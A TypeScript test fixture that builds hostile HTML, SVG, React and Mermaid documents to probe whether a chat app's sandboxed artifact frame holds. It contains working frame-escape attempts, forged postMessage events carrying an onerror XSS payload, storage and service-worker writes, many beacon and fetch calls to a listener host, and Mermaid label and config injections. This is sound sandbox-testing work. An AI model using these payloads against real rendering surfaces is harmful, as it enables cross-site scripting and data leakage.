// Documents that try to leave their frame. Each says at its end that it has tried all it could: what came of it is asked of the page and of the listener.
import type { Listener } from "./listener.ts";

/** Tries everything that a script can, one after the other, and then says "All tried.". */
function attempts({ url, udp }: Pick<Listener, "url" | "udp">, ours: string): string {
  return `
const tried = async (act) => { try { await Promise.race([act(), new Promise((done) => setTimeout(done, 300))]); } catch {} };
const add = (tag, attributes) => { const one = document.createElement(tag); for (const name in attributes) one.setAttribute(name, attributes[name]); document.body.append(one); return one; };
const hosts = ["${url}", "${ours}"];
(async () => {
  // The page.
  await tried(() => { parent.pwned = 1; });
  await tried(() => { top.pwned = 1; });
  await tried(() => { parent.parent.document.title = "pwned"; });
  await tried(() => { top.localStorage.setItem("pwned", "1"); });
  await tried(() => { top.location = "${url}/top"; });
  await tried(() => { top.location.hash = "pwned"; });
  await tried(() => { parent.location = "${url}/parent"; });
  await tried(() => { top.history.back(); });
  await tried(() => { top.close(); });
  await tried(() => { add("a", { href: "${url}/link", target: "_top" }).click(); });
  await tried(() => { add("a", { href: "${url}/blank", target: "_blank" }).click(); });
  await tried(() => { open("${url}/open"); });
  await tried(() => { add("a", { href: "data:text/plain,x", download: "pwned.txt" }).click(); });
  await tried(() => { for (const target of ["_top", "_parent", "_self"]) add("form", { action: "${url}/form", method: "post", target }).submit(); });
  // Messages that only the frame itself may send.
  await tried(() => { for (let n = 0; n < 200; n++) for (const one of [parent, top]) { one.postMessage("colloquy:frame-ready", "*"); one.postMessage({ type: "escape" }, "*"); } });
  await tried(() => { for (const one of [parent, top]) one.postMessage({ type: "error", message: "<img src=x onerror=top.pwned=1>" }, "*"); });
  await tried(() => { dispatchEvent(new KeyboardEvent("keydown", { key: "Escape", bubbles: true })); });
  await tried(() => { add("input", { id: "thief", autofocus: "" }).focus(); window.focus(); });
  // Boxes over the page.
  for (const name of ["alert", "confirm", "prompt", "print"]) await tried(() => self[name]("pwned"));
  await tried(() => document.documentElement.requestFullscreen());
  await tried(() => { onbeforeunload = () => "pwned"; });
  await tried(() => Notification.requestPermission());
  // What is stored.
  await tried(() => { document.cookie = "pwned=1"; });
  await tried(() => { localStorage.setItem("pwned", "1"); });
  await tried(() => { sessionStorage.setItem("pwned", "1"); });
  await tried(() => { indexedDB.open("pwned"); });
  await tried(() => caches.open("pwned"));
  await tried(() => navigator.serviceWorker.register("${ours}/sw.js"));
  await tried(() => navigator.storage.getDirectory());
  await tried(() => cookieStore.set("pwned", "1"));
  await tried(() => navigator.clipboard.writeText("pwned"));
  await tried(() => { document.execCommand("copy"); });
  // The network, also that of our own server, in whose name it would speak.
  for (const host of hosts) {
    await tried(() => fetch(host + "/fetch?pwned", { credentials: "include", mode: "no-cors" }));
    await tried(() => { const ask = new XMLHttpRequest(); ask.open("POST", host + "/xhr?pwned"); ask.send(); });
    await tried(() => { navigator.sendBeacon(host + "/beacon?pwned", "x"); });
    await tried(() => { new Image().src = host + "/image?pwned"; });
    await tried(() => { new EventSource(host + "/events?pwned"); });
    await tried(() => { new WebSocket(host.replace("http", "ws") + "/socket?pwned"); });
    await tried(() => import(host + "/module?pwned"));
    await tried(() => { new Worker(host + "/worker?pwned"); });
    await tried(() => { new SharedWorker(host + "/shared?pwned"); });
    await tried(() => { new Worker(URL.createObjectURL(new Blob(["fetch('" + host + "/from-worker?pwned')"]))); });
    for (const rel of ["stylesheet", "preload", "prefetch", "modulepreload", "icon", "manifest"]) await tried(() => { add("link", { rel, href: host + "/" + rel + "?pwned", as: "image" }); });
    for (const tag of ["iframe", "embed", "video", "audio", "img", "script", "track", "frame"]) await tried(() => { add(tag, { src: host + "/" + tag + "?pwned", autoplay: "" }); });
    await tried(() => { add("object", { data: host + "/object?pwned" }); });
    await tried(() => { add("style", {}).textContent = "@import '" + host + "/import?pwned'; @font-face { font-family: p; src: url(" + host + "/font?pwned) } body { font-family: p; background: url(" + host + "/background?pwned) }"; });
    await tried(() => { add("iframe", { srcdoc: "<img src='" + host + "/inner?pwned'><script>top.pwned = 1; parent.parent.pwned = 1; location = '" + host + "/inner-leaves?pwned'<\\/script>" }); });
    await tried(() => { add("iframe", { src: "data:text/html,<script>location = '" + host + "/data?pwned'<\\/script>" }); });
    await tried(() => { add("iframe", { src: "javascript:location='" + host + "/javascript?pwned'" }); });
    await tried(() => { add("base", { href: host + "/base/" }); add("img", { src: "relative?pwned" }); });
  }
  await tried(async () => { const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:${udp}" }] }); call.createDataChannel("x"); await call.setLocalDescription(await call.createOffer()); });
  await tried(() => new WebTransport("https://${udp}/transport").ready);
  add("h1", {}).textContent = "All tried.";
  // The page says what breaks, so nobody has to look into the frame to know.
  setInterval(() => { throw new Error("All tried."); }, 500);
})();`;
}

export interface ArtifactContent {
  readonly type: "html" | "svg" | "react" | "mermaid";
  readonly title: string;
  readonly content: string;
}

/** Each is opened beside the chat, where it says that it has tried everything. */
export function hostileDocuments(listener: Listener, ours: string): readonly ArtifactContent[] {
  const script = attempts(listener, ours);
  return [
    { type: "html", title: "A page", content: `<!doctype html><body><script>${script}</script>` },
    {
      type: "svg",
      title: "A drawing",
      content: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="top.pwned=1"><image href="${listener.url}/i"/><foreignObject><img src="${listener.url}/f"/></foreignObject><script><![CDATA[${script}]]></script></svg>`,
    },
    {
      type: "react",
      title: "A part",
      content: `import { useEffect } from "react";\nexport default function App() {\n  useEffect(() => { ${script} }, []);\n  return <img src="${listener.url}/react" onError={() => { top.pwned = 1; }} dangerouslySetInnerHTML={undefined} />;\n}\n// </script><script>top.pwned = 1</script>`,
    },
  ];
}

/** Documents whose frame goes elsewhere. */
export function leavingDocuments({ url }: Pick<Listener, "url">, ours: string): readonly string[] {
  return [url, ours].flatMap((host) => [
    `<script>location = "${host}/leaves?pwned"</script>`,
    `<meta http-equiv="refresh" content="0;url=${host}/refresh?pwned">`,
    `<a href="${host}/pressed?pwned">x</a><script>document.querySelector("a").click()</script>`,
    `<form action="${host}/sent?pwned"></form><script>document.querySelector("form").submit()</script>`,
  ]);
}

/** Diagrams are drawn by the page itself before they are shown: what they hold must not run there, nor load, nor restyle it. */
export function hostileDiagrams(listener: string, run: string): readonly string[] {
  const init = (config: object) => `%%{init: ${JSON.stringify(config)}}%%\n`;
  return [
    `flowchart LR\n  A["<img src='${listener}/label' onerror='${run}'>"] --> B["<script>${run}</script>"]`,
    `flowchart LR\n  A --> B\n  click A "javascript:${run}"\n  click B call alert("x")`,
    `flowchart LR\n  A["<iframe srcdoc='<script>${run}</script>'></iframe>"]`,
    `${init({ securityLevel: "loose", htmlLabels: true, flowchart: { htmlLabels: true } })}flowchart LR\n  A["<img src='${listener}/loose' onerror='${run}'>"]\n  click A href "javascript:${run}"`,
    `${init({ themeCSS: `* { background: url(${listener}/theme) } @import '${listener}/import';` })}flowchart LR\n  A --> B`,
    `${init({ fontFamily: `x; } * { background: url(${listener}/font) } .x {` })}flowchart LR\n  A --> B`,
    `${init({ theme: "base", themeVariables: { primaryColor: `red; } #root { display: none } .x { background: url(${listener}/variable)` } })}flowchart LR\n  A --> B`,
    `${init({ dompurifyConfig: { ADD_ATTR: ["onerror"] }, secure: [] })}flowchart LR\n  A["<img src=x onerror='${run}'>"]`,
    `---\ntitle: "<img src=x onerror='${run}'>"\nconfig:\n  securityLevel: loose\n  themeCSS: "* { background: url(${listener}/front) }"\n---\nflowchart LR\n  A --> B`,
    `flowchart LR\n  A:::x --> B\n  classDef x fill:url(${listener}/class),background:url(${listener}/class2)\n  style B fill:#fff,background-image:url(${listener}/style)`,
    `flowchart LR\n  A@{ img: "${listener}/image", label: "x", pos: "t", w: 60, h: 60 }\n  B@{ icon: "x:y" }`,
    `sequenceDiagram\n  participant A as <img src=x onerror='${run}'>\n  link A: x @ javascript:${run}\n  A->>A: <img src='${listener}/note'>`,
    `classDiagram\n  class A\n  link A "javascript:${run}"\n  callback A "top.pwned=1" "x"`,
    `gantt\n  section <img src=x onerror='${run}'>\n  x :a, 2026-01-01, 1d\n  click a href "javascript:${run}"`,
    `flowchart LR\n  A["$$\\\\includegraphics{${listener}/math}$$"]`,
  ];
}
